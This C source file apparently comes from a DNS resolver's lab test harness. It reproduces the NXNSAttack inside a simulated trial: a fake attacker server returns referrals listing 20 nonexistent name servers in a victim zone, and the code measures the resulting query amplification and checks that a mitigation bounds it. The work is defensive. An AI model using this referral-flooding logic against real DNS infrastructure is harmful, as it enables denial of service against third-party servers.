/* nxns: the NXNSAttack (Afek, Bremler-Barr, Shafir, 2020).
 *
 * The attacker's server answers a query with a referral: "ask one of these 20 servers".  None
 * of their names exists, and all are in the victim's zone.  A resolver that is eager to find an
 * address asks the victim's server for each of them: one query of the attacker becomes many at
 * the victim, and its own server hands out new names at no cost. */
#include <unistd.h>

#include "tools/lab/experiment.h"

enum {
    NXNS_QUERIES = 10, /* of the attacker */
    NXNS_SERVERS = 20, /* named by each referral: a reply over UDP has no room for more */
    NXNS_WAIT_MS = 8000,
};

/* A name such as www.zone7.evil.attacker32.com: refer to servers in bank.com. */
static void answer_nxns(struct trial *t, const struct message *query,
                        struct trial_message *reply)
{
    char name[DNAME_TEXT_MAX], zone[64], target[64];
    unsigned number;

    (void)t;
    trial_print_qname(query, name);
    const char *at = strstr(name, "zone");
    if (!at || sscanf(at + 4, "%u", &number) != 1)
        return;
    snprintf(zone, sizeof(zone), "zone%u.evil.attacker32.com", number);
    util_put_u16(reply->wire + 2, MESSAGE_QR); /* a referral is not authoritative */
    for (unsigned i = 0; i < NXNS_SERVERS; i++) {
        snprintf(target, sizeof(target), "n%u-%u.bank.com", number, i);
        trial_record_name(reply, MESSAGE_AUTHORITY, zone, RRTYPE_NS, 3600, target);
    }
}

/* What arrives at the bank's server.  Lifetime: the run. */
struct nxns {
    unsigned packets, names; /* names: different questions; a query may be repeated */
    bool is_seen[NXNS_QUERIES][NXNS_SERVERS][2];
};

static void hear_bank(int ear, struct nxns *n)
{
    struct packet_view heard;
    struct message query;
    char name[DNAME_TEXT_MAX];
    unsigned number, server;

    while (trial_wait(ear, 0)) {
        if (!trial_hear(ear, 0, &heard) || addr_port(&heard.to) != 53 ||
            message_parse(heard.payload, heard.payload_len, &query) != MESSAGE_WHOLE ||
            !query.has_question)
            continue;
        trial_print_qname(&query, name);
        if (sscanf(name, "n%u-%u.", &number, &server) != 2 || number >= NXNS_QUERIES ||
            server >= NXNS_SERVERS)
            continue;
        bool *is_seen = &n->is_seen[number][server][query.qtype == RRTYPE_AAAA];
        n->packets++;
        n->names += !*is_seen;
        *is_seen = true;
    }
}

static void run_nxns(struct trial *t)
{
    const struct addr at = trial_second("attacker", 53);
    int server = trial_open(t, "attacker", &at, SOCK_DGRAM), ear = trial_open_ear(t, "bank");
    struct nxns n = {0};
    unsigned at_attacker = 0;
    char name[80];

    for (unsigned i = 0; i < NXNS_QUERIES; i++) {
        snprintf(name, sizeof(name), "www.zone%u.evil.attacker32.com", i);
        int client = trial_ask_begin(t, "bob", name, RRTYPE_A);
        at_attacker += trial_serve(t, server, client, NXNS_WAIT_MS, answer_nxns);
        (void)trial_ask_end(client, NXNS_WAIT_MS);
        hear_bank(ear, &n);
        trial_tell(t, "%s: %u queries at the bank's server so far", name, n.packets);
    }
    close(server);
    close(ear);
    trial_number(t, "attack-queries", NXNS_QUERIES);
    trial_number(t, "queries-at-the-attacker", at_attacker);
    trial_number(t, "packets-at-the-victim", n.packets);
    trial_number(t, "questions-at-the-victim", n.names);
    const double factor = (double)n.names / NXNS_QUERIES;
    trial_real(t, "factor", factor);
    trial_end(t, factor > 11, "%.1f questions at the victim for each of the attacker", factor);
}

const struct experiment experiment_nxns = {
    .name = "nxns",
    .what = "a referral names servers in the victim's zone that do not exist (NXNSAttack)",
    .without = "budget",
    .stopped =
        "of a referral with more than 13 servers only 5 names may fail; 13 are kept in any "
        "case, which bounds the run without the budget too (a resolver of 2020 asked for "
        "all 1500 of a large referral)",
    .counters = {"queries-sent-udp", "resolutions-limited"},
    .run = run_nxns,
};
